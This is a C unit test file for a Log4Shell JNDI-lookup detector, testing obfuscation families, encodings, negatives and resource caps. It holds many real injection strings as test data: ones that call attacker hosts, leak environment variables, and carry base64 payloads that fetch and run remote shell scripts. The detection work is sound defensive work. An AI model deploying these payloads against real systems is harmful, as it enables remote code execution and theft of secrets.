/* tests/unit/detect/test_jndi.c - the JNDI lookup detector: every obfuscation family to the exact
 * callback, negatives, caps on hostile input, base64 inputs, and Corelight's vectors. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "detect/jndi.h"

#define HITS 8

struct expect {
    const char *in;
    const char *scheme, *host;
    unsigned    port;
    const char *path;
    unsigned    enc;
};

static int scan(const char *s, struct jndi_hit *h)
{
    return jndi_scan((const uint8_t *)s, strlen(s), h, HITS);
}

static void check_one(const struct expect *e)
{
    struct jndi_hit h[HITS];
    int n = scan(e->in, h);

    if (n != 1)
        fail_msg("%s: %d hits", e->in, n);
    if (strcmp(h[0].scheme, e->scheme) != 0 || strcmp(h[0].host, e->host) != 0 || h[0].port != e->port ||
        strcmp(h[0].path, e->path) != 0 || h[0].encodings != e->enc)
        fail_msg("%s: got scheme '%s' host '%s' port %u path '%s' enc %#x", e->in, h[0].scheme, h[0].host,
                 h[0].port, h[0].path, h[0].encodings);
}

static void check_all(const struct expect *e, size_t n)
{
    for (size_t i = 0; i < n; i++)
        check_one(&e[i]);
}

static double now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void test_plain(void **state)
{
    const char *in = "${jndi:ldap://45.137.21.9:1389/Basic/Command/Base64/xx==}";
    struct jndi_hit h[HITS];

    (void)state;
    assert_int_equal(scan(in, h), 1);
    assert_string_equal(h[0].scheme, "ldap");
    assert_string_equal(h[0].host, "45.137.21.9");
    assert_int_equal(h[0].port, 1389);
    assert_string_equal(h[0].path, "Basic/Command/Base64/xx==");
    assert_string_equal(h[0].raw, in);
    assert_string_equal(h[0].normalized, in);
    assert_int_equal(h[0].encodings, 0);
}

static void test_schemes(void **state)
{
    static const struct expect e[] = {
        {"${jndi:ldaps://a.example:636/x}", "ldaps", "a.example", 636, "x", 0},
        {"${jndi:rmi://10.0.0.1:1099/Obj}", "rmi", "10.0.0.1", 1099, "Obj", 0},
        {"${jndi:dns://45.83.64.1/securityscan-http80}", "dns", "45.83.64.1", 0, "securityscan-http80", 0},
        {"${jndi:iiop://0.96.149.90:8425/x}", "iiop", "0.96.149.90", 8425, "x", 0},
        {"${jndi:nis://n.example/x}", "nis", "n.example", 0, "x", 0},
        {"${jndi:nds://d.example/x}", "nds", "d.example", 0, "x", 0},
        {"${jndi:corba://c.example:900/x}", "corba", "c.example", 900, "x", 0},
        {"${jndi:http://0.8.149.7:30871/xvalystgst}", "http", "0.8.149.7", 30871, "xvalystgst", 0},
        {"${jNdI:ldAp://tj5udg.dnslog.cn}", "ldap", "tj5udg.dnslog.cn", 0, "", 0},
    };

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
}

static void test_case_lookups(void **state)
{
    static const struct expect e[] = {
        /* Log4j upper-cases the a: the host really is binAryedge (Corelight's log says binaryedge). */
        {"${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}", "ldap",
         "world80.log4j.binAryedge.io", 80, "callback", JNDI_ENC_LOOKUPS},
        {"${${lower:${lower:jndi}}:ld${lower:ap}://45.146.164.160:1389/;;${env:USERDOMAIN};;${java:os};;}", "ldap",
         "45.146.164.160", 1389, ";;;;;;", JNDI_ENC_LOOKUPS},
        {"${jndi:${lower:l${lower:d${lower:a${lower:p}}}}://foo.bar/baz}", "ldap", "foo.bar", 0, "baz",
         JNDI_ENC_LOOKUPS},
        {"${${upper:j}${lower:N}di${lower::}${lower:/}/1${lower:2}7.0.0.1:1099/obj}", "", "", 0,
         "/127.0.0.1:1099/obj", JNDI_ENC_LOOKUPS},
        {"${${upper:j}n${lower:d}${lower:i}:l${lower:d}${lower:a}${lower:p}${lower::}${lower:/}${lower:/}"
         "1${lower:2}${lower:7}.0${lower:.}0${lower:.}${lower:1}${lower::}10${lower:9}9${lower:/}o${lower:b}j}",
         "ldap", "127.0.0.1", 1099, "obj", JNDI_ENC_LOOKUPS},
        {"${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://cb.example/r}", "ldap", "cb.example", 0, "r",
         JNDI_ENC_LOOKUPS},
        {"${jndi:ldap://spfcbf${lower:.}dnslog${lower:.}cn}", "ldap", "spfcbf.dnslog.cn", 0, "", JNDI_ENC_LOOKUPS},
    };

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
}

static void test_defaults(void **state)
{
    static const struct expect e[] = {
        {"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://45.146.164.160:1389/t}", "ldap",
         "45.146.164.160", 1389, "t", JNDI_ENC_LOOKUPS},
        {"${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}", "ldap",
         "attacker.com", 0, "a", JNDI_ENC_LOOKUPS},
        {"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://135.148.130.60:1389/Basic}", "ldap", "135.148.130.60", 1389,
         "Basic", JNDI_ENC_LOOKUPS},
        {"${${sys:os.name:-j}${main:0:-n}${ctx:x:-d}i:ldap://s.example/x}", "ldap", "s.example", 0, "x",
         JNDI_ENC_LOOKUPS},
        {"${jndi:ld${ozI:Kgh:Qn:TXM:-a}p:${DBEau:Y:pLXUu:-/}${x:UMADq:-/}127${lt:tWd:-.}0.0.1:1099${zl:T:-/}ob${E:-j}}",
         "ldap", "127.0.0.1", 1099, "obj", JNDI_ENC_LOOKUPS},
        {"${${date:'j'}${date:'n'}di:${date:'ldap'}://d.example/x}", "ldap", "d.example", 0, "x", JNDI_ENC_LOOKUPS},
        {"${jnd${123%25ff:-${123%25ff:-i:}}ldap://135.148.130.60:1389/T}", "ldap", "135.148.130.60", 1389, "T",
         JNDI_ENC_LOOKUPS | JNDI_ENC_URL | JNDI_ENC_URL_DOUBLE},
        /* The lookup wins over its default: ${lower:x:-y} is x. */
        {"${jndi:ldap://${lower:W:-zzz}.example/x}", "ldap", "w.example", 0, "x", JNDI_ENC_LOOKUPS},
    };

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
}

static void test_dollar_escape(void **state)
{
    static const struct expect e[] = {
        {"$${jndi:ldap://esc.example/a}", "ldap", "esc.example", 0, "a", 0},
        /* Log4j's next pass reads the "$" a default left next to "{jndi". */
        {"foo=$${env:something:-${env:something:-$}{jndi:ldap://evil.com/webshell}}}", "ldap", "evil.com", 0,
         "webshell", JNDI_ENC_LOOKUPS},
    };
    struct jndi_hit h[HITS];

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
    assert_int_equal(scan(e[1].in, h), 1);
    assert_string_equal(h[0].raw, "${env:something:-${env:something:-$}{jndi:ldap://evil.com/webshell}}");
}

static void test_dotless_i(void **state)
{
    static const struct expect e[] = {
        {"${jnd${upper:\xc4\xb1}:ldap://u.example/x}", "ldap", "u.example", 0, "x", JNDI_ENC_LOOKUPS},
        {"${jnd${upper:\\u0131}:ldap://u.example/x}", "ldap", "u.example", 0, "x",
         JNDI_ENC_LOOKUPS | JNDI_ENC_UNICODE},
        {"${jndi:ldap${upper:\xc5\xbf}://s.example/x}", "ldaps", "s.example", 0, "x", JNDI_ENC_LOOKUPS},
    };
    struct jndi_hit h[HITS];

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
    /* A Turkish dotted I lower-cases to i + U+0307, which is no "jndi". */
    assert_int_equal(scan("${${lower:JND\xc4\xb0}:ldap://x.example/}", h), 0);
}

static void test_url(void **state)
{
    static const struct expect e[] = {
        {"%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D", "ldap", "evil.com", 0, "a", JNDI_ENC_URL},
        {"$%7Bjndi:ldap://tj5udg.dnslog.cn%7D", "ldap", "tj5udg.dnslog.cn", 0, "", JNDI_ENC_URL},
        {"%24%257Bjndi%3Aldap%3A%2F%2Ftj5udg%2Ednslog%2Ecn%257D", "ldap", "tj5udg.dnslog.cn", 0, "",
         JNDI_ENC_URL | JNDI_ENC_URL_DOUBLE},
        {"%2524%25257Bjndi%253Aldap%253A%252F%252Ftj5udg%252Ednslog%252Ecn%25257D", "ldap", "tj5udg.dnslog.cn", 0,
         "", JNDI_ENC_URL | JNDI_ENC_URL_DOUBLE},
        {"%u0024%u007Bjndi:rmi://u.example/x}", "rmi", "u.example", 0, "x", JNDI_ENC_UNICODE},
    };
    struct jndi_hit h[HITS];
    const char *in = "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D&x=1";

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
    assert_int_equal(scan(in, h), 1);
    assert_string_equal(h[0].raw, "%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D");
    assert_string_equal(h[0].normalized, "${jndi:ldap://evil.com/a}");
}

static void test_escapes(void **state)
{
    static const struct expect e[] = {
        {"\\u0024\\u007bjndi:ldap://u.example/a\\u007d", "ldap", "u.example", 0, "a", JNDI_ENC_UNICODE},
        {"$\\u007Bjndi:ldap://evil.com/webshell}", "ldap", "evil.com", 0, "webshell", JNDI_ENC_UNICODE},
        {"\\x24\\x7bjndi:ldap://x.example/a\\x7d", "ldap", "x.example", 0, "a", JNDI_ENC_UNICODE},
        {"{\"q\":\"${jndi:ldap:\\/\\/js.example\\/a}\"}", "ldap", "js.example", 0, "a", 0},
        {"%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.com%2Fwebshell%7D", "ldap", "evil.com", 0, "webshell",
         JNDI_ENC_URL | JNDI_ENC_UNICODE},
        {"\\u002524%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fwebshell%7D", "ldap", "evil.com", 0, "webshell",
         JNDI_ENC_URL | JNDI_ENC_UNICODE},
    };

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
}

static void test_html(void **state)
{
    static const char *const forms[] = {
        "&#36;{jndi:ldap://h.example/a}",
        "&#x24;{jndi:ldap://h.example/a}",
        "&#X24;&#123;jndi:ldap://h.example/a&#125;",
        "&#0000036;&#x0000007b;jndi:ldap://h.example/a&#x7D;",
        "&#36{jndi:ldap://h.example/a}",
        "&dollar;{jndi:ldap://h.example/a}",
        "&DOLLAR;{jndi:ldap://h.example/a}",
        "&dollar{jndi:ldap://h.example/a}",
        "$&lbrace;jndi:ldap://h.example/a&rbrace;",
        "$&LBRACE;jndi:ldap://h.example/a&RBRACE;",
        "$&lcub;jndi:ldap://h.example/a&rcub;",
        "$&Lcubjndi:ldap://h.example/a&rcub",
        "&dollar;&lcub;jndi&colon;ldap&colon;//h.example/a&rcub;",
        "$&lbracejndi&colonldap://h.example/a}",
        "&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://h.example/a}",
        "&amp;#36;{jndi:ldap://h.example/a}",
        "$\\u0026lbrace;jndi:ldap://h.example/a}",
    };
    struct jndi_hit h[HITS];

    (void)state;
    for (size_t i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
        int n = scan(forms[i], h);

        if (n != 1 || strcmp(h[0].host, "h.example") != 0 || strcmp(h[0].path, "a") != 0 ||
            !(h[0].encodings & JNDI_ENC_HTML))
            fail_msg("%s: %d hits, host '%s' enc %#x", forms[i], n, n > 0 ? h[0].host : "", n > 0 ? h[0].encodings : 0);
    }
    /* "&Lcub jndi" decodes to "{ jndi": the space stays, so the prefix is " jndi", no lookup. */
    assert_int_equal(scan("$&Lcub; jndi:ldap://h.example/a}", h), 0);
}

static void test_base64_lookup(void **state)
{
    static const struct expect e[] = {
        {"${${base64:JHtqbmRpOmxkYXA6YWRkcn0=}}", "ldap", "", 0, "addr", JNDI_ENC_BASE64 | JNDI_ENC_LOOKUPS},
        {"${jn${base64:ZGk=}:ldap://b.example/x}", "ldap", "b.example", 0, "x", JNDI_ENC_BASE64 | JNDI_ENC_LOOKUPS},
        {"x ${base64:JHtqbmRpOmxkYXA6Ly9iNjQuZXhhbXBsZToxMzg5L2F9} y", "ldap", "b64.example", 1389, "a",
         JNDI_ENC_BASE64 | JNDI_ENC_LOOKUPS},
    };

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
}

static void test_unknown_values(void **state)
{
    const char *in = "${jndi:dns://10.10.10.31/${env:POC_PASSWORD}}";
    struct jndi_hit h[HITS];

    (void)state;
    assert_int_equal(scan(in, h), 1);
    assert_string_equal(h[0].host, "10.10.10.31");
    assert_int_equal(h[0].port, 0);
    assert_string_equal(h[0].path, "");
    assert_string_equal(h[0].raw, in);
    assert_string_equal(h[0].normalized, "${jndi:dns://10.10.10.31/}");
    assert_int_equal(h[0].encodings, JNDI_ENC_LOOKUPS);
    assert_int_equal(scan("${jndi:ldap://${env:HOSTNAME}.evil.example/a}", h), 1);
    assert_string_equal(h[0].host, ".evil.example");
}

static void test_target_forms(void **state)
{
    static const struct expect e[] = {
        {"${jndi:ldap:addr}", "ldap", "", 0, "addr", 0},
        {"${jndi:ldap:/one.example/a}", "ldap", "", 0, "one.example/a", 0},
        {"${jndi:ldap:///x}", "ldap", "", 0, "x", 0},
        {"${jndi:ldap://[::1]:1389/a}", "ldap", "::1", 1389, "a", 0},
        {"${jndi:ldap://h.example:99999/a}", "ldap", "h.example", 0, "a", 0},
        {"${jndi:ldap://h.example:13x/a}", "ldap", "h.example", 0, "a", 0},
        {"${jndi:ldap://127.0.0.1#evil.example:1389/a}", "ldap", "127.0.0.1#evil.example", 1389, "a", 0},
        {"${jndi:foo}", "", "", 0, "foo", 0},
        {"${jndi:ldap://h.example/a:-dflt}", "ldap", "h.example", 0, "a", 0},
    };

    (void)state;
    check_all(e, sizeof(e) / sizeof(e[0]));
}

static void test_multiple_and_embedded(void **state)
{
    const char *two = "User-Agent: ${jndi:ldap://a.example/1}\r\nReferer: ${jndi:rmi://b.example:1099/2}\r\n";
    const char *json = "{\"user\":\"bob\",\"q\":\"${jndi:ldap://j.example/x}\",\"n\":\"${lower:X}\"}";
    const char *xml = "<?xml version=\"1.0\"?><tag attribute=\"${jndi:ldap://x.example/y}\"/>";
    const char *form = "a=1&b=%24%7Bjndi%3Aldap%3A%2F%2Ff.example%2Fz%7D&c=2&amp=3";
    const char *log = "2021-12-11 [MyApp] - Contains ${jndi:ldap://l.example/a} for user ${env:USER}";
    struct jndi_hit h[HITS];

    (void)state;
    assert_int_equal(scan(two, h), 2);
    assert_string_equal(h[0].host, "a.example");
    assert_string_equal(h[0].raw, "${jndi:ldap://a.example/1}");
    assert_string_equal(h[1].host, "b.example");
    assert_int_equal(h[1].port, 1099);
    assert_string_equal(h[1].raw, "${jndi:rmi://b.example:1099/2}");
    assert_int_equal(scan(json, h), 1);
    assert_string_equal(h[0].host, "j.example");
    assert_int_equal(scan(xml, h), 1);
    assert_string_equal(h[0].host, "x.example");
    assert_string_equal(h[0].path, "y");
    assert_int_equal(scan(form, h), 1);
    assert_string_equal(h[0].host, "f.example");
    assert_string_equal(h[0].path, "z");
    assert_int_equal(scan(log, h), 1);
    assert_string_equal(h[0].host, "l.example");
}

static void test_max_and_count(void **state)
{
    const char *in = "${jndi:ldap://1.example/} ${jndi:ldap://2.example/} ${jndi:ldap://3.example/}";
    struct jndi_hit h[3];

    (void)state;
    memset(&h[2], 0x5a, sizeof(h[2]));
    assert_int_equal(jndi_scan((const uint8_t *)in, strlen(in), h, 2), 3);
    assert_string_equal(h[0].host, "1.example");
    assert_string_equal(h[1].host, "2.example");
    assert_int_equal((unsigned char)h[2].host[0], 0x5a);
    assert_int_equal(jndi_scan((const uint8_t *)in, strlen(in), NULL, 0), 3);
    assert_int_equal(jndi_scan(NULL, 0, NULL, 0), 0);
    assert_int_equal(jndi_scan((const uint8_t *)"", 0, h, 2), 0);
}

static void test_outermost_and_lines(void **state)
{
    struct jndi_hit h[HITS];

    (void)state;
    /* The inner lookup runs first, but the outer one is the callback an attacker names. */
    assert_int_equal(scan("${jndi:ldap://a.example/${jndi:dns://b.example/x}}", h), 1);
    assert_string_equal(h[0].host, "a.example");
    assert_string_equal(h[0].path, "");
    /* Unterminated at the end of the input: still an attempt (the input may have been cut). */
    assert_int_equal(scan("GET /${jndi:ldap://u.example/a", h), 1);
    assert_string_equal(h[0].host, "u.example");
    assert_string_equal(h[0].raw, "${jndi:ldap://u.example/a");
    /* A line break closes what is open: two header lines, two hits. */
    assert_int_equal(scan("A: ${jndi:ldap://l1.example/a\r\nB: ${jndi:ldap://l2.example/b}\r\n", h), 2);
    assert_string_equal(h[0].host, "l1.example");
    assert_string_equal(h[0].path, "a\r");
    assert_string_equal(h[1].host, "l2.example");
}

static void test_negatives(void **state)
{
    static const char *const neg[] = {
        "solutionUser.ownerId = ${solution-user.name}@${vmdir.domain-name}\\n",
        "endpoint0.url = https://${system.urlhostname}:${rhttpproxy.ext.port2}/invsvc",
        "Cîhaza Software RAID li bêr rakirinê ye: ${REMOVED_DEVICES}\\n\\nPartition: ${REMOVED_PARTITIONS}",
        "https://ad.doubleclick.net/ddm/ad/N5631;gdpr=${GDPR};gdpr_consent=${GDPR_CONSENT_755}?",
        "/index.php?s=/module/action/param1/${@Die(md5(HelloThinkPHP))}",
        "User-Agent: jndi:ldap://decoy.example:1389/a",
        "${ctx:loginId} ${env:HOME} ${sys:user.dir} ${java:version}",
        "${lower:JNDI}:ldap://not.a.lookup/x",
        "${jndi}",
        "$ {jndi:ldap://space.example/x}",
        "{jndi:ldap://brace.example/x}",
        "${url:UTF-8::https://text4shell.example/}",
        "${dns:address|text4shell.example}",
        "2021 10:08:35 AURORA: Warning MODULE: Aurora-Agent TOKENELEVATIONTYPE: %%1938 VERSION: 2",
        "price: 100% & 50%; path C:\\xampp\\u00zz &#; &#x; &unknown; %zz %",
        "${jndi-like:ldap://x.example/} ${jnd:ldap://x.example/} ${ jndi:ldap://x.example/}",
    };
    struct jndi_hit h[HITS];

    (void)state;
    for (size_t i = 0; i < sizeof(neg) / sizeof(neg[0]); i++) {
        int n = scan(neg[i], h);

        if (n != 0)
            fail_msg("negative %zu (%s): %d hits, first host '%s'", i, neg[i], n, h[0].host);
    }
}

static void test_cut_fields(void **state)
{
    char in[3000];
    struct jndi_hit h[HITS];
    size_t n;

    (void)state;
    n = (size_t)snprintf(in, sizeof(in), "${jndi:ldap://long.example:1389/");
    memset(in + n, 'p', 2000);
    n += 2000;
    in[n++] = '}';
    assert_int_equal(jndi_scan((const uint8_t *)in, n, h, HITS), 1);
    assert_string_equal(h[0].host, "long.example");
    assert_int_equal(h[0].port, 1389);
    assert_int_equal(strlen(h[0].path), JNDI_PATH_MAX - 1);
    assert_int_equal(strlen(h[0].raw), JNDI_TEXT_MAX - 1);
    assert_int_equal(strlen(h[0].normalized), JNDI_TEXT_MAX - 1);
    assert_true(memcmp(h[0].normalized, "${jndi:ldap://long.example:1389/ppp", 35) == 0);
}

/* 10k nested "${", a lookup at the bottom: depth is capped, the work stays linear. */
static void test_cap_depth(void **state)
{
    const size_t depth = 10000;
    const char *mid = "jndi:ldap://deep.example/a";
    size_t n = 0, ml = strlen(mid);
    uint8_t *in = malloc(depth * 3 + ml);
    struct jndi_hit h[HITS];
    double t0;
    int k;

    (void)state;
    assert_non_null(in);
    for (size_t i = 0; i < depth; i++, n += 2)
        memcpy(in + n, "${", 2);
    memcpy(in + n, mid, ml);
    n += ml;
    memset(in + n, '}', depth);
    n += depth;
    t0 = now();
    k = jndi_scan(in, n, h, HITS);
    assert_true(now() - t0 < 0.5);
    assert_int_equal(k, 1);
    assert_string_equal(h[0].host, "deep.example");
    /* The same depth of ${lower: with no jndi anywhere: nothing, quickly. */
    n = 0;
    for (size_t i = 0; i < depth / 4; i++, n += 8)
        memcpy(in + n, "${lower:", 8);
    in[n++] = 'x';
    memset(in + n, '}', depth / 4);
    n += depth / 4;
    t0 = now();
    assert_int_equal(jndi_scan(in, n, h, HITS), 0);
    assert_true(now() - t0 < 0.5);
    free(in);
}

/* 1 MB inputs: only JNDI_INPUT_MAX bytes are read, in bounded time, whatever they hold. */
static void test_cap_size(void **state)
{
    const size_t size = 1 << 20;
    uint8_t *in = malloc(size);
    struct jndi_hit h[HITS];
    uint32_t x = 12345;
    double t0;
    int k;

    (void)state;
    assert_non_null(in);
    memset(in, 'A', size);
    memcpy(in + 10, "${jndi:ldap://early.example/a}", 30);
    memcpy(in + JNDI_INPUT_MAX + 10, "${jndi:ldap://late.example/a}", 29);
    assert_int_equal(jndi_scan(in, size, h, HITS), 1);
    assert_string_equal(h[0].host, "early.example");
    for (size_t i = 0; i < size; i += 2)
        memcpy(in + i, "${", 2);
    t0 = now();
    assert_int_equal(jndi_scan(in, size, h, HITS), 0);
    assert_true(now() - t0 < 0.5);
    for (size_t i = 0; i < size; i++) {
        x = x * 1103515245u + 12345u;
        in[i] = (uint8_t)(x >> 16);
    }
    t0 = now();
    k = jndi_scan(in, size, h, HITS);
    assert_true(now() - t0 < 0.5);
    assert_true(k >= 0);
    /* Random bytes with a lookup alphabet: whatever is found is well-formed. */
    for (size_t i = 0; i < size; i++) {
        x = x * 1103515245u + 12345u;
        in[i] = (uint8_t)"${}:-jndilap/%24\\u&#;"[(x >> 16) % 21];
    }
    t0 = now();
    k = jndi_scan(in, size, h, HITS);
    assert_true(now() - t0 < 0.5);
    for (int i = 0; i < k && i < HITS; i++) {
        assert_true(strlen(h[i].raw) < JNDI_TEXT_MAX);
        assert_true(strlen(h[i].host) < JNDI_HOST_MAX);
        assert_true(memcmp(h[i].normalized, "${jndi:", 7) == 0);
    }
    free(in);
}

static int scan_b64(const char *s, struct jndi_hit *h)
{
    return jndi_scan_base64((const uint8_t *)s, strlen(s), h, HITS);
}

static void test_scan_base64(void **state)
{
    struct jndi_hit h[HITS];

    (void)state;
    assert_int_equal(scan_b64("dXNlcjoke2puZGk6bGRhcDovL2V2aWwuY29tL2F9", h), 1);
    assert_string_equal(h[0].host, "evil.com");
    assert_string_equal(h[0].path, "a");
    assert_string_equal(h[0].raw, "${jndi:ldap://evil.com/a}");
    assert_int_equal(h[0].encodings, JNDI_ENC_BASE64);
    /* Standard and URL-safe alphabets, binary around the lookup, padding or none. */
    assert_int_equal(scan_b64("AAH+/yR7am5kaTpybWk6Ly9iaW4uZXhhbXBsZS94fT8+", h), 1);
    assert_string_equal(h[0].host, "bin.example");
    assert_int_equal(scan_b64("AAH-_yR7am5kaTpybWk6Ly9iaW4uZXhhbXBsZS94fT8-", h), 1);
    assert_string_equal(h[0].host, "bin.example");
    assert_int_equal(scan_b64("eyJzdWIiOiIke2puZGk6bGRhcDovL2p3dC5leGFtcGxlL3h9In0=", h), 1);
    assert_int_equal(scan_b64("eyJzdWIiOiIke2puZGk6bGRhcDovL2p3dC5leGFtcGxlL3h9In0", h), 1);
    assert_string_equal(h[0].host, "jwt.example");
    /* A JWT: header.payload.signature, each segment decoded. */
    assert_int_equal(scan_b64("eyJhbGciOiJub25lIn0.eyJzdWIiOiIke2puZGk6bGRhcDovL2p3dC5leGFtcGxlL3h9In0.c2ln", h), 1);
    assert_string_equal(h[0].host, "jwt.example");
    assert_int_equal(scan_b64("Zm9vOmJhcg==", h), 0);
    assert_int_equal(scan_b64("not base64!", h), 0);
    assert_int_equal(scan_b64("${jndi:ldap://plain.example/a}", h), 0);
    assert_int_equal(scan_b64("JHtqbmRp=x", h), 0);
    assert_int_equal(scan_b64("A", h), 0);
    assert_int_equal(scan_b64("", h), 0);
    assert_int_equal(jndi_scan_base64(NULL, 0, h, HITS), 0);
}

static bool cl_match(const char *s)
{
    return jndi_corelight_match((const uint8_t *)s, strlen(s));
}

static void test_corelight_match(void **state)
{
    (void)state;
    /* Corelight's tests.zeek vectors. */
    assert_false(cl_match("https://ad.doubleclick.net/ddm/ad/N5631.507083IPINYOU.COM/B26871807.320905003;sz=1x1;"
                          "ord=16396029064475833;dc_lat=;dc_rdid=;tag_for_child_directed_treatment=;tfua=;"
                          "gdpr=${GDPR};gdpr_consent=${GDPR_CONSENT_755}?"));
    assert_false(cl_match("/index.php?s=/module/action/param1/${@Die(md5(HelloThinkPHP))}"));
    assert_false(cl_match("/index?s=index/\\think\\Module/Action/Param/${@phpinfo()}"));
    assert_true(cl_match("${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/ callback}"));
    assert_true(cl_match("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://45.146.164.160:1389/t}"));
    assert_true(cl_match("${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://45.155.205.233:12344/Basic/Command/"
                         "Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC8xNjIuMC4yMjguMjUzOjgwfHx3Z2V0IC1xIC1PLSA0NS4x"));
    assert_false(cl_match("https://foobarstuff.wiz.biz=;dc_rdid=;tfua=;gdpr=${GDPR};gdpr_consent=${GDPR_CONSENT_755}"));
    assert_true(cl_match("${${vgld:jfhv:zyh:c:tvrit:-j}${odm:t:stfd:vaxokx:qanuv:-n}:ldap://6pe0.y.psc3evgl.cou}"));
    assert_true(cl_match("Bearer ${jndi:ldap://45.83.193.150:1389/Exploit}"));
    assert_true(cl_match("${jndi:dns://10.10.10.31/${env:POC_PASSWORD}}"));
    /* The pattern's corners: two bytes before the ':', one after, no '}' in between. */
    assert_false(cl_match("${a:b}"));
    assert_true(cl_match("${ab:c}"));
    assert_false(cl_match("${ab:}"));
    assert_false(cl_match("${::-j}"));
    assert_true(cl_match("${}x:y}"));
    assert_false(cl_match("${ab}:c}"));
    assert_true(cl_match("${ab}:c} ${xy:z}"));
    assert_false(cl_match("$%7Bjndi:ldap://x/a%7D"));
    assert_false(cl_match("${jndi:ldap://x.example/\xc3\xa9}"));
    assert_false(jndi_corelight_match(NULL, 0));
}

struct cl_vec {
    const char *in, *uri, *stem, *host, *port;
};

static void test_corelight_target(void **state)
{
    static const struct cl_vec v[] = {
        /* tests.zeek */
        {"${${vgld:jfhv:zyh:c:tvrit:-j}${odm:t:stfd:vaxokx:qanuv:-n}${ufsgjh:tpr:wqlb:-d}${ohq:yyw:ovptvo:ftzg:bemff:-i}"
         ":ldap://6pe015373099ca36cc511d.y.psc3evgl.cou}",
         "6pe015373099ca36cc511d.y.psc3evgl.cou", "6pe015373099ca36cc511d.y.psc3evgl.cou",
         "6pe015373099ca36cc511d.y.psc3evgl.cou", "-"},
        {"${jndi:corbal://0.17.149.63:30123/xvalystgst}", "0.17.149.63:30123/xvalystgst", "0.17.149.63:30123",
         "0.17.149.63", "30123"},
        {"${jndi:dns://9-99-149-125.example.net/va}", "9-99-149-125.example.net/va", "9-99-149-125.example.net",
         "9-99-149-125.example.net", "-"},
        {"${jndi:http://0.8.149.07:30871/xvalystgst}", "0.8.149.07:30871/xvalystgst", "0.8.149.07:30871",
         "0.8.149.07", "30871"},
        {"${jndi:iiop://0.96.149.90:08425/xvalystgst}", "0.96.149.90:08425/xvalystgst", "0.96.149.90:08425",
         "0.96.149.90", "08425"},
        {"${jndi:ldap://.gf8.rv/mmm}", ".gf8.rv/mmm", ".gf8.rv", ".gf8.rv", "-"},
        {"${jndi:ldap://dvuuy_hostnaug./a}", "dvuuy_hostnaug./a", "dvuuy_hostnaug.", "dvuuy_hostnaug.", "-"},
        {"${jndi:ldap://pqn.ae:1954/toucatbypass/dnslof/foo.bar.baz.borz.bizzie.wiz.biz.kk}",
         "pqn.ae:1954/toucatbypass/dnslof/foo.bar.baz.borz.bizzie.wiz.biz.kk", "pqn.ae:1954", "pqn.ae", "1954"},
        {"${jndi:loqgrn${loqgr:s}://gnk_kariablg_hostnaug.c7t754bzoc4zj8p51ep8cf2553ayycvb1.example.co}",
         "gnk_kariablg_hostnaug.c7t754bzoc4zj8p51ep8cf2553ayycvb1.example.co",
         "gnk_kariablg_hostnaug.c7t754bzoc4zj8p51ep8cf2553ayycvb1.example.co",
         "gnk_kariablg_hostnaug.c7t754bzoc4zj8p51ep8cf2553ayycvb1.example.co", "-"},
        {"${loqgr${loqgr:n}${loqgr:d}i:l${loqgr:d}${loqgr:a}p://30.137.173.178:1954/t} ${loqgr${loqgr:n}${loqgr:d}"
         "i:l${loqgr:d}${loqgr:a}p://30.137.173.178:1954/t} ${loqgr${vppgr:n}${loqgr:d}${vppgr:i}:${loqgr:l}"
         "${vppgr:d}${loqgr:a}${vppgr:p}://30.137.173.178:1954/t} j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}"
         "${::-p}://30.137.173.178:1954/t j}ngnk_kariablg_gnk_naug:-di${gnk:gnk_naug:-:}${gnk:gnk_naug:-l}d"
         "${gnk:gnk_naug:-a}p${gnk:gnk_naug:-:}//30.137.173.178:5851/q ${loqgr${vppgr:n}${loqgr:d}${vppgr:i}:"
         "${loqgr:l}${vppgr:d}${loqgr:a}${vppgr:p}://30.137.173.178:1954/t} j}${::-n}${::-d}${::-i}:${::-l}"
         "${::-d}${::-a}${::-p}://30.137.173.178:1954/t",
         "30.137.173.178:1954/t", "30.137.173.178:1954", "30.137.173.178", "1954"},
        /* Baselines: notice.log sub fields. */
        {"${jndi:dns://10.10.10.31/${env:POC_PASSWORD}}", "10.10.10.31/POC_PASSWORD", "10.10.10.31", "10.10.10.31",
         "-"},
        {"${jndi:ldap://45.137.21.9:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNjIuMjEwLjEzMC4yNTAvbGguc2g7Y2htb2Qg"
         "K3ggbGguc2g7Li9saC5zaA==}",
         "45.137.21.9:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNjIuMjEwLjEzMC4yNTAvbGguc2g7Y2htb2QgK3ggbGguc2g7Li9"
         "saC5zaA==",
         "45.137.21.9:1389", "45.137.21.9", "1389"},
